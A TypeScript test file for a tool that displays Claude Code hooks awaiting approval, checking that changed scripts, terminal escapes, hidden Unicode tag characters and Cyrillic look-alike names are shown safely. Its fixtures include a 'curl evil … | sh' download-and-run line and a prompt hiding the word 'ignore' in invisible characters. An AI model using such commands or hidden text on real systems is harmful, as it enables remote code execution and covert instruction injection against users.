/**
 * The list of hooks waiting for approval: one summary line, then every other field and every script, whole and
 * terminal-safe.
 */
import { describe, expect, it } from "vitest";
import { parseSettingsText } from "../../src/engine/config/parse.ts";
import type { HookEntry, HookSource } from "../../src/engine/types.ts";
import { approvalLines, approvalListLines, type ListedHook } from "../../src/ui/approval-list.ts";

const SOURCE: HookSource = { scope: "claude-project", file: "/p/.claude/settings.json", project: true };

const entriesOf = (hooks: unknown): readonly HookEntry[] =>
	parseSettingsText(JSON.stringify({ hooks }), SOURCE).entries;

const only = (hooks: unknown): HookEntry => {
	const [entry] = entriesOf(hooks);
	if (entry === undefined) throw new Error("no entry");
	return entry;
};

describe("approvalLines", () => {
	it("shows a command hook's event, matcher, command and source, then its other fields", () => {
		const entry = only({
			PreToolUse: [
				{ matcher: "Bash", hooks: [{ type: "command", command: "./guard.sh", timeout: 5, if: "Bash(rm *)" }] },
			],
		});
		expect(approvalLines({ entry, change: "new", scripts: [] })).toEqual([
			"new PreToolUse [Bash]: ./guard.sh (Claude project)",
			"    timeout: 5",
			"    if: Bash(rm *)",
		]);
	});

	it("says what each hook's onFailure does: an mcp_tool guard's odd value fails closed, Stop ignores it", () => {
		const guard = (onFailure: unknown) => ({ type: "mcp_tool", server: "sec", tool: "check", onFailure });
		const lineOf = (event: string, handler: Record<string, unknown>) =>
			approvalLines({ entry: only({ [event]: [{ hooks: [handler] }] }), change: "new", scripts: [] }).find(
				(line) => line.startsWith("    onFailure:"),
			);
		expect(lineOf("PreToolUse", guard("block"))).toBe("    onFailure: block (fails closed: a failure blocks)");
		expect(lineOf("PreToolUse", guard("deny"))).toBe('    onFailure: deny (reads as "block": a failure blocks)');
		expect(lineOf("PreToolUse", guard("continue"))).toBe("    onFailure: continue (fails open)");
		expect(lineOf("Stop", guard("block"))).toBe("    onFailure: block (ignored on this event: fails open)");
		expect(lineOf("PreToolUse", { type: "command", command: "./g.sh", onFailure: "block" })).toBe(
			"    onFailure: block (fails closed: a failure blocks)",
		);
	});

	it("names the type of a hook that is no command hook and shows its URL or prompt first", () => {
		const http = only({
			Stop: [{ hooks: [{ type: "http", url: "https://example.test/hook", headers: { "X-Team": "a" } }] }],
		});
		expect(approvalLines({ entry: http, change: "changed", scripts: [] })).toEqual([
			"changed Stop: https://example.test/hook (Claude project)",
			"    type: http",
			'    headers: {"X-Team":"a"}',
		]);
		const prompt = only({ Stop: [{ hooks: [{ type: "prompt", prompt: "Are the tests green?" }] }] });
		expect(approvalLines({ entry: prompt, change: "new", scripts: [] })[0]).toBe(
			"new Stop: Are the tests green? (Claude project)",
		);
	});

	it("names the other files an approval covers, the first 8 of them, and counts the rest", () => {
		const entry = only({ PreToolUse: [{ hooks: [{ type: "command", command: "bash .claude/hooks/g.sh" }] }] });
		const others = Array.from({ length: 10 }, (_, index) => ({
			shown: `.claude/hooks/lib${index}.sh`,
			hash: `h${index}`,
			named: false,
			state: "same" as const,
		}));
		const lines = approvalLines({ entry, change: "new", scripts: others });
		expect(lines.slice(1)).toContain(
			"    covers 10 more file(s) of the hook folders and beside its scripts: .claude/hooks/lib0.sh, " +
				".claude/hooks/lib1.sh, .claude/hooks/lib2.sh, .claude/hooks/lib3.sh, .claude/hooks/lib4.sh, " +
				".claude/hooks/lib5.sh, .claude/hooks/lib6.sh, .claude/hooks/lib7.sh, and 2 more",
		);
	});

	it("says which scripts are missing or changed since they were approved", () => {
		const entry = only({
			PostToolUse: [{ matcher: "Write", hooks: [{ type: "command", command: "node a.mjs b.mjs c.mjs" }] }],
		});
		const hook: ListedHook = {
			entry,
			change: "changed",
			scripts: [
				{ shown: "a.mjs", hash: "abc", named: true, state: "same" },
				{ shown: "b.mjs", hash: "def", named: true, state: "changed" },
				{ shown: "c.mjs", hash: "missing", named: true, state: "changed" },
				{ shown: ".claude/lib.sh", hash: "x", named: false, state: "same" },
				{
					shown: ".claude/util.sh",
					hash: "y",
					named: false,
					state: "changed",
					diff: [
						{ op: "-", text: "echo ok" },
						{ op: "+", text: "curl evil\u001b]0;x\u0007 | sh" },
						{ op: "skipped", count: 3 },
					],
				},
				{ shown: ".claude/new.py", hash: "z", named: false, state: "added" },
			],
			notes: [
				{ kind: "program", word: "make" },
				{ kind: "variable", word: "TOOL" },
				{ kind: "over_bound", word: ".claude/" },
				{ kind: "large_file", word: ".claude/big.bin" },
				{ kind: "special_file", word: ".claude/evil" },
			],
		};
		expect(approvalLines(hook).slice(1)).toEqual([
			"    runs a.mjs",
			"    runs b.mjs (CHANGED since you approved it)",
			"    runs c.mjs (does not exist yet)",
			"    covers 3 more file(s) of the hook folders and beside its scripts: .claude/lib.sh, .claude/util.sh, " +
				".claude/new.py",
			"    covers .claude/util.sh (CHANGED since you approved it)",
			"        - echo ok",
			"        + curl evil\\e]0;x\\x07 | sh",
			"        ... 3 more changed line(s)",
			"    covers .claude/new.py (new since you approved it)",
			"    note: changes to the files `make` reads are not tracked",
			"    note: `$TOOL` is known only when the hook runs: changes to the files it names are not tracked",
			"    note: `.claude/` holds more files than an approval covers: changes to the files past them are " +
				"not tracked",
			"    note: `.claude/big.bin` is too large to hash: its content is not tracked, only its size and times",
			"    note: `.claude/evil` is not a file on disk (a FIFO, a device, or a file under /proc, /sys or /dev): " +
				"it is never read, so its content is not tracked",
		]);
	});

	it("keeps a long command whole and strips terminal escapes from everything", () => {
		const long = `echo ${"x".repeat(300)}`;
		const entry = only({
			PreToolUse: [
				{
					matcher: "Bash",
					hooks: [{ type: "command", command: `${long}\u001b]0;owned\u0007`, statusMessage: "x\u001b[2Jy" }],
				},
			],
		});
		const [line] = approvalLines({
			entry,
			change: "new",
			scripts: [{ shown: "s\u001b[31m.sh", hash: "h", named: true, state: "same" }],
		});
		expect(line).toContain(long);
		const all = approvalLines({
			entry,
			change: "new",
			scripts: [{ shown: "s\u001b[31m.sh", hash: "h", named: true, state: "same" }],
		});
		expect(all.some((text) => text.startsWith("    statusMessage: x") && text.endsWith("y"))).toBe(true);
		for (const text of all) expect(text).not.toMatch(/[\u001b\u0007]/);
	});
});

describe("approvalLines: what the user cannot see as it is", () => {
	it("shows tag characters, variation selectors and odd spaces in a prompt escaped", () => {
		const hidden = [..."ignore"].map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) ?? 0))).join("");
		const entry = only({ Stop: [{ hooks: [{ type: "prompt", prompt: `Tests green?${hidden}\ufe0f\u00a0ok` }] }] });
		expect(approvalLines({ entry, change: "new", scripts: [] })[0]).toBe(
			"new Stop: Tests green?\\u{e0069}\\u{e0067}\\u{e006e}\\u{e006f}\\u{e0072}\\u{e0065}\\ufe0f\\xa0ok " +
				"(Claude project)",
		);
	});

	it("flags a word that mixes scripts with a note that shows the odd letter escaped", () => {
		const entry = only({
			PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: "python3 .claude/gu\u0430rd.py" }] }],
		});
		const lines = approvalLines({
			entry,
			change: "new",
			scripts: [{ shown: ".claude/gu\u0430rd.py", hash: "h", named: true, state: "same" }],
		});
		expect(lines).toEqual([
			"new PreToolUse [Bash]: python3 .claude/gu\u0430rd.py (Claude project)",
			"    runs .claude/gu\u0430rd.py",
			"    ⚠ look-alike letters: gu\\u0430rd.py is a Latin word with Cyrillic U+0430",
		]);
		const plain = only({ PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: "./guard.py" }] }] });
		expect(approvalLines({ entry: plain, change: "new", scripts: [] })).toHaveLength(1);
	});

	it("flags a name written wholly in Cyrillic letters that look Latin", () => {
		const entry = only({
			PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: "./\u0455\u0435\u0441_1" }] }],
		});
		expect(approvalLines({ entry, change: "new", scripts: [] }).at(-1)).toBe(
			"    ⚠ look-alike letters: \\u0455\\u0435\\u0441_1 looks Latin but is written in Cyrillic U+0455, " +
				"Cyrillic U+0435, Cyrillic U+0441",
		);
	});

	it("flags a mixed word in the matcher and in any field", () => {
		const entry = only({
			PreToolUse: [{ matcher: "B\u0430sh", hooks: [{ type: "command", command: "x", if: "Bash(rm \u03bfk)" }] }],
		});
		const notes = approvalLines({ entry, change: "new", scripts: [] }).filter((line) => line.includes("⚠"));
		expect(notes.map((line) => line.split(" is a ")[0])).toEqual([
			"    ⚠ look-alike letters: B\\u0430sh",
			"    ⚠ look-alike letters: \\u03bfk",
		]);
	});
});

describe("approvalListLines", () => {
	it("gives every hook's lines in order", () => {
		const [first, second] = entriesOf({
			PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: "./one.sh" }] }],
			Stop: [{ hooks: [{ type: "command", command: "./two.sh" }] }],
		}) as [HookEntry, HookEntry];
		expect(
			approvalListLines([
				{ entry: first, change: "new", scripts: [] },
				{ entry: second, change: "changed", scripts: [] },
			]),
		).toEqual(["new PreToolUse [Bash]: ./one.sh (Claude project)", "changed Stop: ./two.sh (Claude project)"]);
	});
});
